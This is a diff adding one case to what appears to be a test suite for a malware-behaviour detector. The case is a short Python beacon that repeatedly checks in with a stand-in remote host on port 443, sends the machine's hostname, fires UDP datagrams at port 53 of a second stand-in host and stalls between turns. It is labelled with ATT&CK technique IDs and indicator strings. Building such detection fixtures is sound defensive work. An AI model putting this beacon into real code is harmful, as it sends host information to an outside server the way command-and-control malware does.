@@ -62,6 +62,27 @@ int main(void) {
     core: true,
   },
   {
+    name: 'a protocol of its own on the port of the web, and datagrams to that of names',
+    language: 'python',
+    source: `
+import socket, time
+for turn in range(4):
+    made = socket.create_connection(("203.0.113.41", 443), 5)
+    made.sendall(b"\\x01checkin;" + socket.gethostname().encode())
+    made.close()
+    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"ping " + str(turn).encode() * 20, ("203.0.113.42", 53))
+    time.sleep(40)
+`,
+    shows: {
+      trace_speaks_own_protocol: ['T1095', 'T1571', 'T1082'],
+      trace_calls_home: ['T1095'],
+      trace_stalls: ['T1497.003'],
+    },
+    label: 'suspicious',
+    tells: ['203.0.113.41', 'checkin;web01', '203.0.113.42'],
+    core: true,
+  },
+  {
     name: 'data in the names that it asks for',
     language: 'python',
     source: `
